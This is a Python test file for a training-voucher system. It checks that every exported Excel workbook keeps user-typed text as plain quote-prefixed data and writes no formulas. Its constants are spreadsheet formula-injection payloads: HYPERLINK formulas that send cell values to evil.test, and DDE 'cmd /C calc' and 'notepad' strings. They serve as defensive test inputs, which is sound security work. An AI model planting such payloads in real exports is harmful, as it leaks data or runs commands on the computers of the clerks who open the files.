"""Files that are only data (issue 14): every workbook the product makes, reached through its
real door (the command line, the desk's export jobs made by the worker), with hostile text in
every field a person types that reaches it. No cell is a formula (nor an error value), the
text is kept exactly as typed, and a cell a spreadsheet could take for a formula is marked
quote-prefixed, so it stays text when a clerk edits it."""

from __future__ import annotations

import io
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from documents.cells import FORMULA_STARTS
from models.attendance import open_session, record_spot_check
from models.audit import Channel
from models.catalogue import ClassSession, Course
from models.clock import LOCAL_TZ
from models.desk import DeskRole
from models.vouchers import claim_voucher
from tests import factories
from tests.desk_fixtures import ask_export
from tests.factories import id_number, redeem, register_via_chat, staff_member
from worker.exports import run_export_jobs

CODE = "imp-hostile"
INSTITUTION = "lp-xinyuan"
# What people typed, each as a spreadsheet would run it.
COURSE_NAME = '=HYPERLINK("http://evil.test/?"&E5,"核验")'  # the course file's name
OCCUPATION = "@SUM(1+1)*cmd|' /C calc'!A0"  # the course file's occupation
# openpyxl would store it as an error value. No import takes it (a level must be one of the
# five grades), but a row from before that check may carry any text: it is written in by hand.
LEVEL = "#N/A"
ADDRESS = "-2+3+cmd|' /C notepad'!A0"  # the course file's address
DESCRIPTION = "＝HYPERLINK(\"http://evil.test\")"  # full-width ＝, as a Chinese IME types it
CERTIFICATE = '=HYPERLINK("http://x.test/"&E5,"核验")'  # 结业 <voucher> <certificate no.>
REASON = '=HYPERLINK("http://evil.test/?"&D5,"手机没电")'  # 补签 <voucher> <reason>
DROP_OUT = "+1+1 搬去昆明"  # vouchers revoke --reason
NOTES = "－1＋1 现场两人"  # an inspector's spot-check notes
HOSTILE = (COURSE_NAME, OCCUPATION, LEVEL, ADDRESS, DESCRIPTION, CERTIFICATE, REASON,
           DROP_OUT, NOTES)


def at(hour: int, minute: int = 0, *, day: int = 25) -> datetime:
    return datetime(2026, 11, day, hour, minute, tzinfo=LOCAL_TZ)


@dataclass
class Scene:
    completed: str  # voucher numbers
    dropped: str


@pytest.fixture
def hostile_class(runner, wechat, services, sessions, clock, tmp_path) -> Scene:
    """A one-day class published from a course file with hostile words; two trainees
    registered through the chat and enrolled; one marked present by hand (补签, a hostile
    reason), scanned in the afternoon and completed (结业, a hostile certificate number); the
    other dropped out by the bureau (a hostile reason); an inspector's hostile notes."""
    row = {"code": CODE, "institution": INSTITUTION, "category": "construction",
           "name": COURSE_NAME, "occupation": OCCUPATION, "certificate_kind": "培训合格证书",
           "theory_hours": "2", "practice_hours": "6",
           "capacity": "20", "township": "罗雄街道", "address": ADDRESS,
           "first_day": "2026-11-25", "session_days": "1", "daily": "08:00-12:00;13:00-17:00",
           "description": DESCRIPTION}
    path = factories.course_file(tmp_path / "courses.csv", [row])
    result = runner.invoke(args=["courses", "import", str(path)])
    assert result.exit_code == 0, result.output
    with sessions.begin() as db:
        db.execute(update(Course).where(Course.code == CODE).values(certificate_level=LEVEL))

    staff = staff_member(services, institution_code=INSTITUTION, openid="o-hostile-staff",
                         now=clock.now())
    with sessions.begin() as db:
        course_id = db.scalar(select(Course.id).where(Course.code == CODE))
    numbers = []
    for seq, name in (("501", "张三"), ("503", "李四")):
        openid = f"o-hostile-{seq}"
        register_via_chat(wechat, openid, id=id_number(seq=seq), name=name,
                          phone=f"13900000{seq}")
        with sessions.begin() as db:
            voucher = claim_voucher(db, openid=openid, course_id=course_id,
                                    channel=Channel.WECHAT, now=clock.now(),
                                    today=clock.today())
        redeem(services, voucher_id=voucher.id, staff_openid=staff, now=clock.now())
        numbers.append((voucher.number, openid))
    (kept, kept_openid), (dropped, _) = numbers

    clock.set(at(8, 5))
    with sessions.begin() as db:
        open_session(db, staff_openid=staff, now=clock.now(), course_code=CODE)
    reply = wechat.say(staff, f"补签 {kept} {REASON}")
    assert kept in reply.text, reply.text
    with sessions.begin() as db:
        factories.inspector(db, openid="o-hostile-inspector", now=clock.now())
        session_id = db.scalar(select(ClassSession.id).join(ClassSession.course)
                               .where(Course.code == CODE).order_by(ClassSession.starts)
                               .limit(1))
        db.flush()
        record_spot_check(db, session_id=session_id, openid="o-hostile-inspector",
                          present_seen=1, notes=NOTES, photo_media_id=None, now=clock.now())
    result = runner.invoke(args=["vouchers", "revoke", dropped, "--reason", DROP_OUT])
    assert result.exit_code == 0, result.output

    clock.set(at(13, 2))
    with sessions.begin() as db:
        open_session(db, staff_openid=staff, now=clock.now(), course_code=CODE)
    code = services.class_codes.show(_afternoon(sessions), clock.now()).code
    assert "✔" in wechat.scan(kept_openid, "CHECKIN", code).text

    clock.set(at(17, 30))  # the class is over
    reply = wechat.say(staff, f"结业 {kept} {CERTIFICATE}")
    assert CERTIFICATE in reply.text, reply.text
    return Scene(completed=kept, dropped=dropped)


def _afternoon(sessions) -> int:
    with sessions() as db:
        return db.scalar(select(ClassSession.id).join(ClassSession.course)
                         .where(Course.code == CODE).order_by(ClassSession.starts.desc())
                         .limit(1))


# --- each workbook through its door --------------------------------------------------------

def _cli(runner, tmp_path: Path, *args: str) -> bytes:
    out = tmp_path / "sheet.xlsx"
    result = runner.invoke(args=[*args, "--out", str(out)])
    assert result.exit_code == 0, result.output
    return out.read_bytes()


def _desk(desk_client, services, kind: str, value: str, *, full_ids: bool = False) -> bytes:
    client = desk_client(DeskRole.ADMIN)
    asked = ask_export(client, kind, value, full_ids=full_ids)
    assert asked.status_code == 303, asked.get_data(as_text=True)
    assert run_export_jobs(services) == 1
    answer = client.get(asked.headers["Location"] + "/file")
    assert answer.status_code == 200
    return answer.data


@dataclass(frozen=True)
class Door:
    make: Callable[..., bytes]
    shows: tuple[str, ...]  # the hostile words the workbook carries (whole cells, or within)


def _claim_cli(runner, tmp_path, clock, **_kw) -> bytes:
    clock.set(at(10, day=26))  # the day after the class
    return _cli(runner, tmp_path, "claims", "make", "--course", CODE)


def _claim_desk(runner, tmp_path, clock, desk_client, services, **_kw) -> bytes:
    _claim_cli(runner, tmp_path, clock)
    return _desk(desk_client, services, "claim", CODE)


DOORS = {
    "attendance sheet (CLI)": Door(
        lambda runner, tmp_path, **_: _cli(runner, tmp_path, "attendance", "sheet",
                                           "--course", CODE),
        (COURSE_NAME, REASON)),
    "settlement sheet (CLI)": Door(
        lambda runner, tmp_path, **_: _cli(runner, tmp_path, "vouchers", "settle",
                                           "--institution", INSTITUTION, "--from",
                                           "2026-11-01", "--to", "2026-11-30"),
        (COURSE_NAME, CERTIFICATE, LEVEL)),
    "claim sheet (CLI)": Door(_claim_cli, (COURSE_NAME,)),
    "claim list (desk)": Door(_claim_desk, (COURSE_NAME,)),
    "ledger (desk)": Door(
        lambda desk_client, services, **_: _desk(desk_client, services, "ledger", "2026Q4"),
        (COURSE_NAME, OCCUPATION, LEVEL, CERTIFICATE, DROP_OUT)),
    "ledger with full IDs (desk)": Door(
        lambda desk_client, services, **_: _desk(desk_client, services, "ledger", "2026Q4",
                                                 full_ids=True),
        (COURSE_NAME, OCCUPATION, LEVEL, CERTIFICATE, DROP_OUT)),
    "class record (desk)": Door(
        lambda desk_client, services, **_: _desk(desk_client, services, "class_record", CODE),
        (COURSE_NAME, OCCUPATION, LEVEL, ADDRESS, DESCRIPTION, CERTIFICATE, REASON, DROP_OUT,
         NOTES)),
    "class record with full IDs (desk)": Door(
        lambda desk_client, services, **_: _desk(desk_client, services, "class_record", CODE,
                                                 full_ids=True),
        (COURSE_NAME, OCCUPATION, LEVEL, ADDRESS, DESCRIPTION, CERTIFICATE, REASON, DROP_OUT,
         NOTES)),
    "provincial file (desk)": Door(
        lambda desk_client, services, **_: _desk(desk_client, services, "provincial", CODE),
        (COURSE_NAME, OCCUPATION, LEVEL, ADDRESS, CERTIFICATE)),
    "progress report (desk)": Door(
        lambda desk_client, services, **_: _desk(desk_client, services, "progress", "2026-11"),
        ()),
}


def _texts(content: bytes) -> list[tuple[str, object]]:
    """(where, cell) of every cell of every sheet, comments' text apart."""
    book = load_workbook(io.BytesIO(content))
    return [(f"{ws.title}!{cell.coordinate}", cell) for ws in book.worksheets
            for row in ws.iter_rows() for cell in row]


@pytest.mark.parametrize("door", list(DOORS), ids=list(DOORS))
def test_no_cell_of_any_workbook_is_a_formula_and_typed_text_stays_as_typed(
        door, hostile_class, runner, tmp_path, clock, desk_client, services):
    content = DOORS[door].make(runner=runner, tmp_path=tmp_path, clock=clock,
                               desk_client=desk_client, services=services)
    cells = _texts(content)
    formulas = [(where, cell.value) for where, cell in cells if cell.data_type in ("f", "e")]
    assert formulas == []  # the product writes no formula: none may come from input
    values = [cell.value for _where, cell in cells if isinstance(cell.value, str)]
    values += [cell.comment.text for _where, cell in cells if cell.comment]
    for word in DOORS[door].shows:
        assert any(word in value for value in values), (door, word)
    for where, cell in cells:
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
            assert cell.quotePrefix, (where, cell.value)  # shown as typed, text when edited
            assert cell.value in HOSTILE, (where, cell.value)  # kept exactly
